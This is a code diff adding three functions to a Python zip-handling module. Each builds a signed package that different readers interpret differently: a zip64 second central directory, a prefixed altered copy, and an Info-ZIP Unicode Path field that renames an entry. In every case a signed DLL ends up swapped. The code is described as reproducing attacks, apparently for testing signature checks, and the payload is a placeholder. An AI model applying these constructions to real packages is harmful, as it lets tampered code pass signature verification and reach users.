@@ -258,3 +258,73 @@ def _inflate_or_none(data: bytes) -> bytes | None:
 def raw_deflate(data: bytes, level: int = 9) -> bytes:
     c = zlib.compressobj(level, zlib.DEFLATED, -15)
     return c.compress(data) + c.flush()
+
+
+# --- the three reproduced attacks on a package (SAMPLE_FILES layout: lib/X.dll is replaced) -----------
+EVIL = b"MZ evil replacement DLL " * 125  # 3000 bytes, the size of SAMPLE_FILES["lib/X.dll"]
+
+
+def _cd_offset(data: bytes) -> int:
+    return struct.unpack_from("<I", data, len(data) - 6)[0]
+
+
+def attack_zip64(signed: bytes, target: bytes = b"lib/X.dll", evil: bytes = EVIL) -> bytes:
+    """(a) Python follows a zip64 end record to the signed central directory; readers that
+    trust the classic end record (.NET) read a second directory where `target` is replaced."""
+    layout = Layout.parse(signed)
+    index = [c.name for c in layout.centrals].index(target)
+    cd_offset = _cd_offset(signed)
+    body = bytearray(signed[:cd_offset])
+    signed_cd = signed[cd_offset:-22]
+    # .NET reads central records until the signature stops matching: the evil directory must be
+    # followed by something else (here the evil local header), the signed one by the zip64 record.
+    evil_cd_offset = len(body)
+    evil_cd_size = sum(46 + len(c.name) for c in layout.centrals)
+    evil_offset = evil_cd_offset + evil_cd_size  # a second local header + data for the target
+    evil_cd = bytearray()
+    for central in layout.centrals:
+        record = bytearray(central.header)
+        if central.name == target:
+            put(record, CENTRAL_FIELDS, "crc32", zlib.crc32(evil))
+            put(record, CENTRAL_FIELDS, "method", 0)
+            put(record, CENTRAL_FIELDS, "compressed_size", len(evil))
+            put(record, CENTRAL_FIELDS, "size", len(evil))
+            put(record, CENTRAL_FIELDS, "header_offset", evil_offset)
+        evil_cd += record + central.name
+    body += evil_cd
+    header = bytearray(layout.locals[index].header)
+    put(header, LOCAL_FIELDS, "crc32", zlib.crc32(evil))
+    put(header, LOCAL_FIELDS, "method", 0)
+    put(header, LOCAL_FIELDS, "compressed_size", len(evil))
+    put(header, LOCAL_FIELDS, "size", len(evil))
+    body += header + target + evil
+    signed_cd_offset = len(body)
+    body += signed_cd  # right before the zip64 records: where Python's arithmetic expects it
+    zip64_end_offset = len(body)
+    count = len(layout.centrals)
+    body += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, len(signed_cd), signed_cd_offset)
+    body += struct.pack("<IIQI", 0x07064B50, 0, zip64_end_offset, 1)
+    body += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(evil_cd), evil_cd_offset, 0)
+    return bytes(body)
+
+
+def attack_prefix(signed: bytes, target: bytes = b"lib/X.dll", evil: bytes = EVIL) -> bytes:
+    """(b) A copy of the package with `target` replaced (same size), then the signed package: the
+    end record's offsets, absolute for .NET, land in the copy; Python subtracts the prefix."""
+    layout = Layout.parse(signed)
+    index = [c.name for c in layout.centrals].index(target)
+    assert layout.locals[index].get("method") == 0 and len(evil) == layout.locals[index].get("size")
+    layout.replace_data(index, evil)
+    prefix = layout.build()[:-22]
+    assert len(prefix) == len(signed) - 22
+    return prefix + signed
+
+
+def attack_unicode_path(signed: bytes, carrier: bytes = b"readme.txt", target: bytes = b"lib/X.dll") -> bytes:
+    """(c) An Info-ZIP Unicode Path extra field (0x7075) on a later entry's central record: unzip
+    names that entry `target`, and its bytes overwrite the signed `target` on extraction."""
+    layout = Layout.parse(signed)
+    central = layout.centrals[[c.name for c in layout.centrals].index(carrier)]
+    payload = struct.pack("<BI", 1, zlib.crc32(central.name)) + target
+    central.extra = struct.pack("<HH", 0x7075, len(payload)) + payload
+    return layout.build()
